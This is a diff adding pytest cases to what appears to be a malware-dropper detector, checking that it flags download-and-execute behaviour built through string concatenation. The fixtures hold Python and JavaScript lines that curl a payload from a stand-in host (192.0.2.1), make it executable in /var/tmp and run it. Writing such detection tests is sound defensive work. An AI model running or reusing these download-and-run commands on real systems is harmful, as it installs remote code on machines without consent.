@@ -8,6 +8,7 @@ import pytest
 
 from minehunt import dropper, intel
 from minehunt.dropper import Behaviour as B
+from minehunt.dropper.normalise import layers as dropper_layers
 
 IT = intel.default()
 WALLET = (
@@ -202,6 +203,32 @@ def test_a_download_and_run_after_padding_is_found_on_its_line() -> None:
     dl = next(s for s in a.behaviours if s.behaviour is B.DOWNLOAD_EXEC)
     hit = next(h for h in dl.hits if h.sub.key == "download made executable and run")
     assert (hit.line, hit.detail) == (3003, "/tmp/.kx")
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        # Python: the command built by concatenating a name set to a string.
+        'import os\npath = "/var/tmp/" + ".sysd"\n'
+        'os.system("curl -s http://192.0.2.1/x -o " + path + " && chmod +x " + path)\n'
+        "os.system(path + ' --background')\n",
+        # JavaScript, as javascript-obfuscator's decoded text spells it: one line, names
+        # declared in a list.
+        'const {execSync}=require("child_process"),b="/var/tmp/.kx";execSync("curl -fsSL '
+        'http://192.0.2.1/k -o "+b+" && chmod +x "+b+" && "+b+" -c /var/tmp/.k.json");',
+    ],
+)
+def test_names_concatenated_to_command_strings_are_resolved(script: str) -> None:
+    found = dropper.analyse(script, IT).behaviours
+    dl = next(s for s in found if s.behaviour is B.DOWNLOAD_EXEC)
+    assert any(h.sub.key == "download made executable and run" for h in dl.hits)
+
+
+def test_a_concatenated_name_that_is_called_or_a_member_is_left_alone() -> None:
+    # ``tmp`` is a string, but ``tmp(...)`` and ``tmp.x`` are not uses of it.
+    text = 'tmp = "/tmp/.a"\nrun("curl -o " + tmp(1) + " x" + tmp.x)\n'
+    layer = dropper_layers(text)[0]
+    assert "/tmp/.a(" not in layer.squeezed and "/tmp/.a.x" not in layer.squeezed
 
 
 def test_kubectl_exec_of_a_fetch_is_container_abuse() -> None:
